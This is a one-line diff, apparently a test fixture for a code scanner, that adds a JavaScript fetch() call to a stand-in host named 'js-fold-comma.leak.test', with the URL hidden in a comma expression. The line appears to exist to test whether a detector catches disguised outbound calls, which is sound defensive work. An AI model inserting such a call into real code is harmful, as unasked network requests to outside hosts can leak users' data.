@@ -1,0 +1,1 @@
+fetch((0, "https://js-fold-comma.leak.test/"))
